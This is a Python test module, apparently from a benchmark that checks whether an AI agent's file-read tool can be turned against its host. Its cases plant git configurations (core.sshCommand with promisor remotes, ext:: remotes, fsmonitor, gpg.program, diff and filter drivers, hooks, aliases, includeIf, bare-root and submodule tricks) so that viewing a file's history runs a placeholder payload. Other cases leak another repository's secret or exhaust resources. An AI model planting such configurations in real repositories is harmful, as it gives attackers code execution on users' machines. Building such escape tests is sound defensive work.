"""Git: repositories whose configuration, links or objects turn a look at the history into something else."""

from bench.escapes.host.place import Place

HISTORY = """
git init -q -b main {folder}
cd {folder}
git config user.email a@example.com
git config user.name a
seq 200 > gone.txt; git add gone.txt; git commit -qm one
git mv gone.txt here.txt; echo more >> here.txt; git commit -qam two
"""
LOST = """
for blob in $(git rev-parse HEAD:here.txt HEAD~1:gone.txt); do rm -f .git/objects/${blob:0:2}/${blob:2}; done
git config core.repositoryFormatVersion 1
git config extensions.partialClone origin
git config remote.origin.promisor true
"""
"""Blobs that a look for renames needs are missing, and a remote promises them."""


def _history(place: Place, more: str = "", folder: str = ".") -> None:
    place.shell(HISTORY.format(folder=folder) + more)


async def planted_by_a_command(place: Place) -> None:
    """A command plants HEAD and commondir, with the configuration elsewhere; a missing blob is fetched by a program."""
    script = place.put(
        "plant.sh", HISTORY.format(folder="/tmp/s").replace("git init", "export HOME=/tmp; git init")
    )
    await place.bash(
        f"""set -e; bash -e {script.name}; cd /tmp/s
        A=$(git rev-parse HEAD:here.txt); B=$(git rev-parse HEAD~1:gone.txt); cd "{place.workspace}"
        mkdir -p c/refs/heads; cp -r /tmp/s/.git/objects c/objects; cp /tmp/s/.git/refs/heads/main c/refs/heads/main
        for b in $A $B; do rm -f c/objects/${{b:0:2}}/${{b:2}}; done
        echo "ref: refs/heads/main" > HEAD; echo c > commondir
        printf '[core]\\nrepositoryformatversion=1\\nbare=true\\nsshCommand="{place.payload};false"\\n' > c/config
        printf '[extensions]\\npartialClone=origin\\n[remote "origin"]\\nurl=ssh://x/y\\npromisor=true\\n' >> c/config
        """
    )
    await place.call("read", path="gone.txt")


async def promisor_over_ssh(place: Place) -> None:
    """A repository that an archive brought fetches its missing blobs through core.sshCommand."""
    _history(
        place, LOST + 'git config remote.origin.url ssh://x/y; git config core.sshCommand "$PAYLOAD;false"'
    )
    await place.call("read", path="gone.txt")


async def promisor_over_ext(place: Place) -> None:
    """The remote that promises the missing blobs is a command line (`ext::`), and the configuration allows it."""
    _history(
        place,
        LOST
        + 'git config protocol.ext.allow always; printf "#!/bin/sh\\n$PAYLOAD\\n" > r.sh; chmod +x r.sh;'
        'git config remote.origin.url "ext::$PWD/r.sh"',
    )
    await place.call("read", path="gone.txt")


async def promisor_over_http(place: Place) -> None:
    """The remote that promises the missing blobs is a server on loopback: a look at a file makes a connection."""
    _history(place, LOST + f"git config remote.origin.url http://127.0.0.1:{place.port}/")
    await place.call("read", path="gone.txt")


async def upload_pack_of_a_local_remote(place: Place) -> None:
    """The remote is a local path, and its upload-pack is a program of the workspace."""
    place.program("pack.sh")
    _history(
        place,
        LOST + 'git config remote.origin.url "$PWD"; git config remote.origin.uploadpack "$PWD/pack.sh"',
    )
    await place.call("read", path="gone.txt")


async def file_monitor(place: Place) -> None:
    """core.fsmonitor names a program."""
    place.program("monitor.sh")
    _history(place, 'git config core.fsmonitor "$PWD/monitor.sh"')
    for path in ("gone.txt", "nothing.txt"):
        await place.call("read", path=path)


async def signature_check(place: Place) -> None:
    """log.showSignature has every signed commit checked by gpg.program."""
    place.program("gpg.sh")
    _history(
        place,
        """git config log.showSignature true; git config gpg.program "$PWD/gpg.sh"
        { git cat-file commit HEAD | sed '/^$/,$d'
          printf 'gpgsig -----BEGIN PGP SIGNATURE-----\\n \\n iQ==\\n -----END PGP SIGNATURE-----\\n\\nsigned\\n'; } > commit
        git update-ref refs/heads/main $(git hash-object -t commit -w commit)""",
    )
    await place.call("read", path="gone.txt")


async def included_configuration(place: Place) -> None:
    """The configuration itself is harmless, but includes a file of the workspace."""
    _history(place, LOST + "git config remote.origin.url ssh://x/y; git config include.path ../settings")
    place.put("settings", f'[core]\n\tsshCommand = "{place.payload};false"\n')
    await place.call("read", path="gone.txt")


async def conditionally_included_configuration(place: Place) -> None:
    """The include applies only in this very folder, so that no scan of one file sees it."""
    _history(
        place,
        LOST
        + 'git config remote.origin.url ssh://x/y; git config "includeIf.gitdir:$PWD/.path" "$PWD/settings"',
    )
    place.put("settings", f'[core]\n\tsshCommand = "{place.payload};false"\n')
    await place.call("read", path="gone.txt")


async def configuration_of_the_worktree(place: Place) -> None:
    """extensions.worktreeConfig reads a second file, config.worktree."""
    _history(
        place, LOST + "git config extensions.worktreeConfig true; git config remote.origin.url ssh://x/y"
    )
    place.put(".git/config.worktree", f'[core]\n\tsshCommand = "{place.payload};false"\n')
    await place.call("read", path="gone.txt")


async def git_file_to_a_folder_of_the_workspace(place: Place) -> None:
    """`.git` is a file that leads to a folder with another name, and that has the configuration."""
    _history(
        place, LOST + 'git config remote.origin.url ssh://x/y; git config core.sshCommand "$PAYLOAD;false"'
    )
    place.shell("mv .git store; echo 'gitdir: store' > .git")
    await place.call("read", path="gone.txt")


async def git_link_to_a_folder_of_the_workspace(place: Place) -> None:
    """`.git` is a symbolic link to such a folder."""
    _history(
        place, LOST + 'git config remote.origin.url ssh://x/y; git config core.sshCommand "$PAYLOAD;false"'
    )
    place.shell("mv .git store; ln -s store .git")
    await place.call("read", path="gone.txt")


async def bare_at_the_root(place: Place) -> None:
    """The workspace itself is a bare repository, as git finds by chance."""
    _history(
        place, LOST + 'git config remote.origin.url ssh://x/y; git config core.sshCommand "$PAYLOAD;false"'
    )
    place.shell("git config core.bare true; cp -r .git/. .; rm -rf .git")
    await place.call("read", path="gone.txt")


async def submodule(place: Place) -> None:
    """A submodule's repository lies in the modules of the outer one, with a configuration of its own."""
    _history(place)
    _history(
        place,
        LOST + 'git config remote.origin.url ssh://x/y; git config core.sshCommand "$PAYLOAD;false"',
        "sub",
    )
    place.shell(
        "mkdir -p .git/modules; mv sub/.git .git/modules/sub; echo 'gitdir: ../.git/modules/sub' > sub/.git"
    )
    for path in ("sub/gone.txt", "gone.txt"):
        await place.call("read", path=path)


async def linked_worktree_of_another_repository(place: Place) -> None:
    """`.git` leads to somebody else's repository: what its files are called now is told to the model."""
    place.shell(
        HISTORY.format(folder="$OUT/theirs")
        + f"git mv here.txt {place.secrets['OTHER']}; git commit -qm three; echo gitdir: $OUT/theirs/.git > $OLDPWD/.git"
    )
    await place.call("read", path="gone.txt")


async def alternate_objects_of_another_repository(place: Place) -> None:
    """HEAD names a commit that only another repository has, and alternates lead to its objects."""
    place.shell(
        HISTORY.format(folder="$OUT/theirs")
        + f"git mv here.txt {place.secrets['OTHER']}; git commit -qm three; C=$(git rev-parse HEAD); cd $OLDPWD"
        + "; git init -q -b main; echo $OUT/theirs/.git/objects > .git/objects/info/alternates"
        + "; echo $C > .git/refs/heads/main"
    )
    await place.call("read", path="gone.txt")


async def text_conversion_and_external_diff(place: Place) -> None:
    """Attributes give every file a driver whose conversion, filter and diff are programs."""
    place.program("driver.sh")
    _history(
        place,
        """echo '* diff=x filter=x merge=x' > .gitattributes
        for key in diff.x.textconv diff.x.command diff.external filter.x.clean filter.x.smudge filter.x.process \
            core.pager pager.log core.editor core.askPass credential.helper core.gitProxy; do
        git config $key "$PWD/driver.sh"; done""",
    )
    await place.call("read", path="gone.txt")


async def hooks(place: Place) -> None:
    """Every hook that git has is a program, in the repository and where core.hooksPath says."""
    place.program("hook.sh")
    _history(
        place,
        """mkdir hooks; git config core.hooksPath hooks
        for name in post-checkout pre-commit post-commit reference-transaction post-index-change fsmonitor-watchman \
            pre-auto-gc post-rewrite update pre-push; do cp hook.sh hooks/$name; cp hook.sh .git/hooks/$name; done""",
    )
    for path in ("gone.txt", "nothing.txt"):
        await place.call("read", path=path)


async def alias_of_the_subcommand(place: Place) -> None:
    """An alias in the configuration replaces what is called."""
    _history(
        place, 'for name in log rev-parse status diff show; do git config alias.$name "!$PAYLOAD"; done'
    )
    await place.call("read", path="gone.txt")


async def large_blobs_to_compare(place: Place) -> None:
    """A look for renames compares files of 100 MB that take a few kilobytes in the repository."""
    _history(
        place,
        """for i in 1 2; do head -c 100M /dev/zero > big$i; echo $i >> big$i; done; git add .; git commit -qm big
        for i in 1 2; do git mv big$i moved$i; echo x >> moved$i; done; git commit -qam moved; rm moved*""",
    )
    await place.call("read", path="big1")
